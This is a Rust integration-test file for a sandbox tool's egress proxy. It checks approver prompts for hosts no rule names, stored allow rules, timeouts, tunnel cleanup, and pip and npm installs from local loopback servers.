        let workspace_dir = tempfile::tempdir().unwrap();
        let workspace = std::fs::canonicalize(workspace_dir.path()).unwrap();
        configure(
            home.path(),
            &format!("[sandbox]\nnetwork = \"proxy\"\n\n[sandbox.egress]\n{egress}"),
            r#"{"version":1}"#,
        );
        ProxyHome {
            home,
            _workspace: workspace_dir,
            workspace,
        }
    }

    fn home(&self) -> &std::path::Path {
        self.home.path()
    }

    /// `warden` in this home, run in the workspace.
    fn warden(&self) -> Command {
        let mut cmd = warden_in(self.home());
        cmd.current_dir(&self.workspace);
        cmd
    }

    /// `warden exec --shell script` on a thread of its own (while the test answers).
    fn exec_later(&self, script: &str) -> std::thread::JoinHandle<std::process::Output> {
        let mut cmd = self.warden();
        cmd.args(["exec", "--shell", script]);
        std::thread::spawn(move || cmd.output().unwrap())
    }
}

/// A host `[sandbox.egress]` does not name is put to the approver (the real terminal
/// one) while curl waits: it sees the run's command, the host and port, and that the
/// address is loopback; "once" reaches it for the rest of the run (the second request
/// to it is not asked about again), "deny" refuses another, and both answers are on the
/// record; "always" stores exactly that host and port for the agent, whose later runs
/// reach it with nobody to ask, while askFallback refuses the rest.
#[test]
fn a_host_no_rule_names_is_put_to_the_approver_once_per_run() {
    if !bwrap_usable() || !curl_present() {
        return;
    }
    let first = serve_http("127.0.0.1:0", "reached after asking");
    let second = serve_http("127.0.0.1:0", "must not be reached");
    let p = ProxyHome::new("allow = []\n");
    let script = format!(
        "curl -sS --max-time 60 http://{first}/a; echo; curl -sS --max-time 60 http://{first}/b; echo; \
         curl -sS --max-time 60 -o /dev/null -w 'second=%{{http_code}}\\n' http://{second}/"
    );
    let mut approver = support::TerminalApprover::start(p.home());
    let run = p.exec_later(&script);
    let shown = approver.read_until("digest:").join("\n");
    for expected in [
        "(a network connection)".to_owned(),
        format!("connects: 127.0.0.1:{}", first.port()),
        "127.0.0.1 is loopback".to_owned(),
        format!(
            "no [sandbox.egress] allow rule names 127.0.0.1 on port {}",
            first.port()
        ),
        format!("http://{first}/a"),
    ] {
        assert!(shown.contains(&expected), "{expected:?} not in {shown}");
    }
    approver.type_text("o\n");
    // The next question is the second host's: the first is not asked about again.
    approver.answer(&format!("connects: 127.0.0.1:{}", second.port()), "d\n");
    let out = run.join().unwrap();
    let (stdout, stderr) = (
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr),
    );
    assert!(out.status.success(), "{stdout}\n{stderr}");
    assert_eq!(
        stdout.matches("reached after asking").count(),
        2,
        "{stdout}\n{stderr}"
    );
    assert!(stdout.contains("second=403"), "{stdout}\n{stderr}");
    assert!(
        stderr.contains(&format!(
            "warden: network: 127.0.0.1:{} http allowed (allowed for this run by the approver",
            first.port()
        )),
        "{stderr}"
    );
    assert!(
        stderr.contains("denied by the approver on this host's socket"),
        "{stderr}"
    );
    let answers = support::log_records(p.home(), &["--kind", "answer"]);
    let rules: Vec<&str> = answers.iter().filter_map(|a| a["rule"].as_str()).collect();
    assert_eq!(answers.len(), 2, "{answers:?}");
    assert!(
        answers[0]["reason"] == "connection-allowed"
            && rules[0].starts_with(&format!("connection to 127.0.0.1:{}", first.port())),
        "{answers:?}"
    );
    assert_eq!(answers[1]["reason"], "connection-refused", "{answers:?}");

    // "Allow always" stores exactly that host and port for the agent.
    let fetch_second = format!("curl -sS --max-time 60 http://{second}/");
    let run = p.exec_later(&fetch_second);
    approver.answer(
        &format!("always:   stores 127.0.0.1:{} for", second.port()),
        "a\n",
    );
    let out = run.join().unwrap();
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("must not be reached"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let stored: serde_json::Value =
        serde_json::from_slice(&std::fs::read(p.home().join("exec-approvals.json")).unwrap())
            .unwrap();
    let agents = stored["agents"].as_object().unwrap();
    assert!(
        agents.values().any(
            |a| a["egressAllow"] == serde_json::json!([format!("127.0.0.1:{}", second.port())])
        ),
        "{stored}"
    );
    approver.stop();
    // `policy explain` shows what the agent's egressAllow adds, in words and in JSON.
    let explained = p
        .warden()
        .args(["policy", "explain", "--", "curl", "http://x/"])
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&explained.stdout);
    assert!(
        text.contains(&format!(
            "egress allow: 127.0.0.1:{} (exec-approvals.json egressAllow of agent main)",
            second.port()
        )),
        "{text}"
    );
    let explained = p
        .warden()
        .args(["policy", "explain", "--json", "--", "curl", "http://x/"])
        .output()
        .unwrap();
    let json: serde_json::Value = serde_json::from_slice(&explained.stdout).unwrap();
    assert_eq!(
        json["egressAllow"],
        serde_json::json!([format!("127.0.0.1:{}", second.port())]),
        "{json}"
    );

    // Nobody listening: the stored host is reached without a question; askFallback
    // (deny by default) refuses the other, and says why.
    let out = p
        .warden()
        .args(["exec", "--shell", &format!("{script}; {fetch_second}")])
        .output()
        .unwrap();
    let (stdout, stderr) = (
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr),
    );
    assert!(
        !stdout.contains("reached after asking"),
        "{stdout}\n{stderr}"
    );
    assert!(stdout.contains("must not be reached"), "{stdout}\n{stderr}");
    assert!(
        stderr.contains("askFallback = deny refuses a host no rule names"),
        "{stderr}"
    );
    assert!(
        stderr.contains(&format!(
            "allowed (exec-approvals.json egressAllow 127.0.0.1:{}",
            second.port()
        )),
        "{stderr}"
    );
}

/// A run that ends while its connection's question is out (its timeout) ends on time:
/// the question is withdrawn from the approver, nothing reaches the upstream, and the
/// connection is reported refused.
#[test]
fn a_run_that_ends_while_its_connection_is_asked_about_withdraws_the_question() {
    if !bwrap_usable() || !curl_present() {
        return;
    }
    let upstream = serve_http("127.0.0.1:0", "must not be reached");
    let p = ProxyHome::new("allow = []\n");
    let mut approver = support::TerminalApprover::start(p.home());
    let started = std::time::Instant::now();
    let mut cmd = p.warden();
    cmd.args([
        "exec",
        "--timeout",
        "3s",
        "--shell",
        &format!("curl -sS --max-time 60 http://{upstream}/"),
    ]);
    let run = std::thread::spawn(move || cmd.output().unwrap());
    // Shown, and left unanswered.
    let shown = approver.read_until("digest:").join("\n");
    assert!(shown.contains(&format!("connects: {upstream}")), "{shown}");
    let withdrawn = approver.read_until("withdrawn").join("\n");
    assert!(withdrawn.contains("the requester gave up"), "{withdrawn}");
    let out = run.join().unwrap();
    let waited = started.elapsed();
    let (stdout, stderr) = (
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr),
    );
    assert!(waited < Duration::from_secs(20), "{waited:?}");
    assert!(
        !stdout.contains("must not be reached"),
        "{stdout}\n{stderr}"
    );
    assert!(
        stderr.contains("timed out") || stderr.contains("timeout"),
        "{stderr}"
    );
    approver.stop();
}

/// A loopback HTTP server answering `GET path` with the bytes `routes` gives for it
/// (404 otherwise), one request per connection.
fn serve_files(routes: Vec<(String, Vec<u8>)>) -> SocketAddr {
    serve_files_at("127.0.0.1:0", routes)
}

/// [`serve_files`] on `at`.
fn serve_files_at(at: &str, routes: Vec<(String, Vec<u8>)>) -> SocketAddr {
    serve(at, move |path| {
        routes
            .iter()
            .find(|(p, _)| p == path)
            .map(|(_, body)| body.clone())
    })
}

/// An HTTP server on `at` answering each request for a path with what `answer` gives
/// (404 for `None`), one request per connection.
fn serve(at: &str, answer: impl Fn(&str) -> Option<Vec<u8>> + Send + Sync + 'static) -> SocketAddr {
    let listener = TcpListener::bind(at).unwrap();
    let addr = listener.local_addr().unwrap();
    let answer = Arc::new(answer);
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut s) = stream else { return };
            let answer = Arc::clone(&answer);
            std::thread::spawn(move || {
                let mut head = Vec::new();
                let mut buf = [0u8; 4096];
                while !head.windows(4).any(|w| w == b"\r\n\r\n") {
                    match s.read(&mut buf) {
                        Ok(0) | Err(_) => return,
                        Ok(n) => head.extend_from_slice(&buf[..n]),
                    }
                }
                let head = String::from_utf8_lossy(&head);
                let target = head.split_whitespace().nth(1).unwrap_or("/");
                // Origin form from the proxy; absolute form would name the host first.
                let path = target
                    .strip_prefix("http://")
                    .and_then(|rest| rest.find('/').map(|i| &rest[i..]))
                    .unwrap_or(target);
                let path = path.split('?').next().unwrap_or(path);
                match answer(path) {
                    Some(body) => {
                        // What pip and npm look for: an index page, a JSON document,
                        // or a file.
                        let kind = match body.first() {
                            Some(b'<') => "text/html",
                            Some(b'{') => "application/json",
                            _ => "application/octet-stream",
                        };
                        let _ = write!(
                            s,
                            "HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                            body.len()
                        );
                        let _ = s.write_all(&body);
                    }
                    None => {
                        let _ = s.write_all(
                            b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
                        );
                    }
                }
            });
        }
    });
    addr
}

/// A package manager's run installed the test's package (which says so when loaded),
/// every connection it made going through the proxy, allowed.
fn assert_installed_through_the_proxy(out: &ExecOutput) {
    assert!(
        out.stdout.contains("installed through the proxy"),
        "{out:?}"
    );
    assert!(!out.egress.is_empty(), "{out:?}");
    assert!(out.egress.iter().all(|c| c.allowed), "{:?}", out.egress);
}

/// A real `pip install` in a proxy run, from a package index on loopback that only an
/// address rule lets it reach; the package imports afterwards.
#[tokio::test]
async fn pip_installs_from_a_local_index_through_the_proxy() {
    if !bwrap_usable() {
        return;
    }
    let python = Path::new("/usr/bin/python3");
    let lab = lab();
    let venv = lab.ws().join("venv");
    let made = python.exists()
        && Command::new(python)
            .args(["-m", "venv"])
            .arg(&venv)
            .output()
            .is_ok_and(|o| o.status.success());
    if !made {
        eprintln!(
            "SKIPPED: /usr/bin/python3 with venv is missing (.ci/run installs python3-venv): pip is driven from a venv"
        );
        return;
    }
    // A wheel, made by Python's own zipfile outside the sandbox.
    let build = tempfile::tempdir().unwrap();
    let wheel = build.path().join("demo_pkg-0.1-py3-none-any.whl");
    let script = r#"import sys, zipfile
files = {
  "demo_pkg/__init__.py": "HELLO = 'installed through the proxy'\n",
  "demo_pkg-0.1.dist-info/METADATA": "Metadata-Version: 2.1\nName: demo-pkg\nVersion: 0.1\n",
  "demo_pkg-0.1.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
}
record = "".join(f"{n},,\n" for n in files) + "demo_pkg-0.1.dist-info/RECORD,,\n"
with zipfile.ZipFile(sys.argv[1], "w") as z:
  for n, t in files.items(): z.writestr(n, t)
  z.writestr("demo_pkg-0.1.dist-info/RECORD", record)
"#;
    let built = Command::new(python)
        .args(["-c", script])
        .arg(&wheel)
        .output()
        .unwrap();
    assert!(built.status.success(), "{built:?}");
    let name = "demo_pkg-0.1-py3-none-any.whl";
    let index = serve_files(vec![
        (
            "/simple/demo-pkg/".into(),
            format!("<html><body><a href=\"/files/{name}\">{name}</a></body></html>").into_bytes(),
        ),
        (format!("/files/{name}"), std::fs::read(&wheel).unwrap()),
    ]);
    let sandbox = allowing_loopback_port(&lab, index.port());
    let out = sh(
        &sandbox,
        &lab,
        &format!(
            "venv/bin/pip install --no-cache-dir --disable-pip-version-check \
             --index-url http://{index}/simple/ --trusted-host 127.0.0.1 demo-pkg 2>&1 && \
             venv/bin/python -c 'import demo_pkg; print(demo_pkg.HELLO)'"
        ),
    )
    .await;
    assert_installed_through_the_proxy(&out);
}

/// A real `npm install` in a proxy run, from a registry on loopback that only an address
/// rule lets it reach; the package loads afterwards.
#[tokio::test]
async fn npm_installs_from_a_local_registry_through_the_proxy() {
    if !bwrap_usable() {
        return;
    }
    let (Ok(npm), Ok(node)) = (which("npm"), which("node")) else {
        eprintln!(
            "SKIPPED: node and npm are missing (.ci/run installs them): npm is driven for real"
        );
        return;
    };
    let lab = lab();
    let build = tempfile::tempdir().unwrap();
    std::fs::create_dir(build.path().join("package")).unwrap();
    std::fs::write(
        build.path().join("package/package.json"),
        r#"{"name":"demo-pkg","version":"1.0.0","main":"index.js"}"#,
    )
    .unwrap();
    std::fs::write(
        build.path().join("package/index.js"),
        "exports.hello = 'installed through the proxy';\n",
    )
    .unwrap();
    let tarball = build.path().join("demo-pkg-1.0.0.tgz");
    let packed = Command::new("tar")
        .arg("czf")
        .arg(&tarball)
        .arg("-C")
        .arg(build.path())
        .arg("package")
        .output()
        .unwrap();
    assert!(packed.status.success(), "{packed:?}");
    // The registry's address is known only once it listens: the packument names it.
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    drop(listener);
    let registry = format!("http://127.0.0.1:{port}");
    let packument = format!(
        r#"{{"name":"demo-pkg","dist-tags":{{"latest":"1.0.0"}},"versions":{{"1.0.0":{{"name":"demo-pkg","version":"1.0.0","main":"index.js","dist":{{"tarball":"{registry}/demo-pkg/-/demo-pkg-1.0.0.tgz"}}}}}}}}"#
    );
    let served = serve_files_at(
        &format!("127.0.0.1:{port}"),
        vec![
            ("/demo-pkg".into(), packument.into_bytes()),
            (
                "/demo-pkg/-/demo-pkg-1.0.0.tgz".into(),
                std::fs::read(&tarball).unwrap(),
            ),
        ],
    );
    let sandbox = allowing_loopback_port(&lab, served.port());
    let ws = lab.ws();
    let out = sh(
        &sandbox,
        &lab,
        &format!(
            "export HOME={ws} npm_config_cache={ws}/.npm-cache npm_config_update_notifier=false; \
             {npm} install --no-audit --no-fund --registry {registry}/ demo-pkg 2>&1 && \
             {node} -e 'console.log(require(\"demo-pkg\").hello)'",
            ws = ws.display(),
            npm = npm.display(),
            node = node.display(),
        ),
    )
    .await;
    assert_installed_through_the_proxy(&out);
}

/// A run that ends (here: its timeout) with a tunnel still open to an upstream that never
/// answers nor closes: the run still ends promptly, its tree killed, and the open
/// connection is said on its output rather than left running in Warden's process.
#[tokio::test]
async fn a_run_ending_with_a_tunnel_open_closes_it_and_says_so() {
    if !bwrap_usable() || !curl_present() {
        return;
    }
    let lab = lab();
    let (holding, _closed) = holding_server();
    let sandbox = allowing_loopback_port(&lab, holding.port());
    let mut options = lab.options(&[]);
    options.timeout = Duration::from_secs(2);
    let started = Instant::now();
    let out = sandbox
        .shell(Profile::Writable)
        .exec(
            &[
                "/usr/bin/curl".into(),
                "-sS".into(),
                "--proxytunnel".into(),
                format!("http://{holding}/"),
            ],
            &options,
        )
        .await
        .unwrap();
    assert!(out.timed_out, "{out:?}");
    assert!(
        started.elapsed() < Duration::from_secs(20),
        "the run took {:?}",
        started.elapsed()
    );
    assert!(
        out.stderr
            .contains("egress connection(s) were still open when the run ended and were closed"),
        "{out:?}"
    );
}

/// A server that takes connections, reads what comes, and never answers nor closes; the
/// receiver hears of each connection whose other side closed it.
fn holding_server() -> (SocketAddr, std::sync::mpsc::Receiver<()>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = listener.local_addr().unwrap();
    let (tell, closed) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let mut held = Vec::new();
        for stream in listener.incoming() {
            let Ok(s) = stream else { return };
            let mut reader = s.try_clone().unwrap();
            let tell = tell.clone();
            std::thread::spawn(move || {
                let mut buf = [0u8; 4096];
                while matches!(reader.read(&mut buf), Ok(n) if n > 0) {}
                let _ = tell.send(());
            });
            held.push(s);
        }
    });
    (addr, closed)
}

/// A run cancelled (its future dropped, as when an agent's client cancels the call or
/// disconnects) while a tunnel it opened is held by the upstream: the run's tree is
/// killed and the upstream sees the tunnel end. (That the proxy's own task is gone at
/// once, not only half-closed, is `broker.rs`'s test of a dropped broker.)
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_cancelled_run_leaves_no_tunnel_open() {
    if !bwrap_usable() || !curl_present() {
        return;
    }
    let lab = lab();
    let (holding, closed) = holding_server();
    let sandbox = allowing_loopback_port(&lab, holding.port());
    let options = lab.options(&[]);
    let shell = sandbox.shell(Profile::Writable);
    let argv: Vec<String> = vec![
        "/usr/bin/curl".into(),
        "-sS".into(),
        "--proxytunnel".into(),
        format!("http://{holding}/"),
    ];
    let run = tokio::spawn(async move { shell.exec(&argv, &options).await });
    // The tunnel reached the upstream (its CONNECT's bytes arrive, nothing answers) ...
    tokio::time::sleep(Duration::from_secs(2)).await;
    assert!(
        !run.is_finished(),
        "the run ended by itself: {:?}",
        run.await
    );
    // ... and is cancelled.
    run.abort();
    let _ = run.await;
    let seen = tokio::task::spawn_blocking(move || closed.recv_timeout(Duration::from_secs(10)))
        .await
        .unwrap();
    assert!(
        seen.is_ok(),
        "the upstream's connection outlived the cancelled run"
    );
}
